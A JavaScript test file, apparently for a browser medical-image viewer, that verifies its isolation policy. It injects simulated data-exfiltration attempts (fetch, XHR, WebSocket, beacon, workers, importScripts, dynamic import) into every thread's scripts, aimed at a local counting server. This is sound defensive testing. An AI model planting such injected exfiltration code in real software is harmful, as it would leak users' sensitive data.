// Nothing leaves, whatever the code says: in every thread of the page each way of reaching another origin is tried, on a
// host that sends no headers, and another server counts what arrives.
//
// The attempts are written into the scripts that the threads run, behind their own code, as a damaged library could make
// them. Each thread also asks its own host for a file, so that a test whose attempts never ran cannot pass.
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { after, before, test } from 'node:test';
import { setTimeout as pause } from 'node:timers/promises';

import { kHeaders } from '../../tools/site/headers.mjs';
import { kPatience, launchBrowser, openPage } from './support/browser.mjs';
import { copySite } from './support/site.mjs';

let browser;
/** Another origin: it answers everything, with permission for everybody, and keeps what it was asked. */
let other;
before(async () => {
  browser = await launchBrowser();
  other = await startOther();
});
after(async () => {
  await browser?.close();
  await other?.close();
});

async function startOther() {
  const arrived = [];
  const server = createServer((request, response) => {
    arrived.push(`${request.method} ${request.url}`);
    response.writeHead(200, { 'Access-Control-Allow-Origin': '*', 'Access-Control-Allow-Headers': '*', 'Content-Type': 'text/javascript',
      'Cross-Origin-Resource-Policy': 'cross-origin' });
    response.end('export default 1;');
  });
  server.on('upgrade', (request, socket) => {
    arrived.push(`UPGRADE ${request.url}`);
    socket.destroy();
  });
  await new Promise((resolve) => { server.listen(0, '127.0.0.1', resolve); });
  return { url: `http://127.0.0.1:${server.address().port}/`, arrived, close: () => new Promise((resolve) => {
    server.close(resolve);
    server.closeAllConnections();
  }) };
}

/**
 * The attempts, as text: one function without names from outside. What a browser lacks in a thread throws, as what was
 * taken away does. `mark` says which thread it was.
 */
function attempts(mark, address, ownFolder) {
  const tell = (way) => `${address}${mark}/${way}`;
  const nativeFetch = Object.getPrototypeOf(Object.getPrototypeOf(globalThis))?.fetch ?? globalThis.fetch;
  const ways = {
    post: () => fetch(tell('post'), { method: 'POST', mode: 'no-cors', body: 'pixels' }),
    cors: () => fetch(new Request(tell('cors'), { method: 'POST', body: 'pixels' })),
    inherited: () => nativeFetch.call(globalThis, tell('inherited'), { method: 'POST', mode: 'no-cors', body: 'pixels' }),
    xhr() {
      const request = new XMLHttpRequest();
      request.open('POST', tell('xhr'));
      request.send('pixels');
    },
    socket: () => new WebSocket(tell('socket').replace('http', 'ws')),
    events: () => new EventSource(tell('events')),
    beacon: () => navigator.sendBeacon(tell('beacon'), 'pixels'),
    cache: async () => (await caches.open('attempt')).add(tell('cache')),
    font: () => new FontFace('attempt', `url(${tell('font')})`).load(),
    scripts: () => importScripts(tell('scripts')),
    worker: () => new Worker(tell('worker')),
    blobWorker: () => new Worker(URL.createObjectURL(new Blob([`fetch(${JSON.stringify(tell('blob-worker'))})`]))),
  };
  for (const way of Object.values(ways)) {
    try {
      Promise.resolve(way()).catch(() => {});
    } catch {
      // Refused at once.
    }
  }
  fetch(`${ownFolder}attempted/${mark}`).catch(() => {});
}

/**
 * `import()` is syntax: in a module only, where the policy alone governs it. A file that several threads run attacks from the
 * one of that name.
 */
const attack = (mark, ownFolder, { isModule = true, thread } = {}) => (bytes) => `${bytes}\n;if (${
  thread ? `globalThis.name === ${JSON.stringify(thread)}` : 'true'}) {\n(${attempts})(${
  JSON.stringify(mark)}, ${JSON.stringify(other.url)}, ${ownFolder});\n${
  isModule ? `import(${JSON.stringify(`${other.url}${mark}/import`)}).catch(() => {});\n` : ''}}`;
const folderOf = (up) => `new URL(${JSON.stringify(`${up || "./"}`)}, import.meta.url).href`;

const kDicom = { name: 'a.dcm', bytes: readFileSync(new URL('../fixtures/dicom/explicit.dcm', import.meta.url)) };
const kModuleThreads = {
  page: ['page/boot.js'],
  engine: ['worker/engine.worker.js'],
  dicom: ['dicom/dicom.worker.js'],
  runtime: ['vendor/ort/ort-wasm-simd-threaded.mjs', { thread: 'em-pthread' }],
};
const kNoHeaders = { omit: Object.keys(kHeaders) };
/** Which kinds of page there are: what stands between the threads and the network in each. */
const kPages = [
  ['on a host without headers, at the first visit', { ...kNoHeaders, serviceWorkers: true }, ['page', 'engine', 'dicom', 'service']],
  ['on a host without headers, in a browser without service workers', kNoHeaders, ['page', 'engine', 'dicom']],
  ['on a host without headers, at the second visit', { ...kNoHeaders, serviceWorkers: true, visits: 2 },
    ['page', 'engine', 'dicom', 'service', 'runtime']],
  ['on a host without headers, by the policy alone', { ...kNoHeaders, changes: { 'shared/own_origin.js': () => '' } }, ['page', 'engine', 'dicom']],
  ['on a host that sends the headers', { serviceWorkers: true }, ['page', 'engine', 'dicom', 'service', 'runtime']],
];

for (const [title, { visits = 1, changes = {}, ...options }, threads] of kPages) {
  test(`no thread reaches another origin ${title}`, async (t) => {
    const site = copySite({
      ...Object.fromEntries(Object.entries(kModuleThreads).map(([mark, [path, more]]) => [path,
        attack(mark, folderOf('../'.repeat(path.split('/').length - 1)), more)])),
      ...changes,
      'sw.js': attack('service', 'new URL("./", self.registration.scope).href', { isModule: false }),
    }, { listed: true });
    const page = await openPage(browser, { query: '?backend=wasm&model=compact-densenet-128', root: site.root, ...options });
    t.after(async () => {
      await page.close();
      site.remove();
    });
    other.arrived.length = 0;
    await page.ready();
    for (let visit = 1; visit < visits; visit += 1) {
      await page.page.reload();
      await page.ready();
    }
    await page.drop([kDicom]);
    await page.until(({ films }) => films.length === 1 && films[0].status === 'refused');
    const attempted = () => new Set(page.server.asked.map((url) => /attempted\/(\w+)/.exec(url)?.[1]).filter(Boolean));
    for (const end = Date.now() + kPatience; threads.some((mark) => !attempted().has(mark)) && Date.now() < end;) await pause(50);
    assert.deepEqual([...attempted()].sort(), [...threads].sort(), 'every thread tried');
    await pause(500); // for what is still on its way: nothing is awaited here that could say it has come
    assert.deepEqual(other.arrived, []);
  });
}

test('the attempts do arrive where nothing forbids them', async (t) => {
  const plain = createServer((request, response) => {
    const isPage = request.url === '/';
    response.writeHead(200, { 'Content-Type': isPage ? 'text/html' : 'text/javascript' });
    response.end(isPage ? '<script type="module" src="attempts.js"></script>' : attack('bare', folderOf('')).call(null, ''));
  });
  await new Promise((resolve) => { plain.listen(0, '127.0.0.1', resolve); });
  const context = await browser.newContext();
  t.after(async () => {
    await context.close();
    plain.close();
    plain.closeAllConnections();
  });
  other.arrived.length = 0;
  const page = await context.newPage();
  await page.goto(`http://127.0.0.1:${plain.address().port}/`);
  const wanted = ['post', 'cors', 'inherited', 'xhr', 'socket', 'events', 'beacon', 'cache', 'font', 'blob-worker', 'import'];
  const missing = () => wanted.filter((way) => !other.arrived.some((line) => line.endsWith(`/bare/${way}`)));
  for (const end = Date.now() + kPatience; missing().length && Date.now() < end;) await pause(50);
  assert.deepEqual(missing(), []);
});
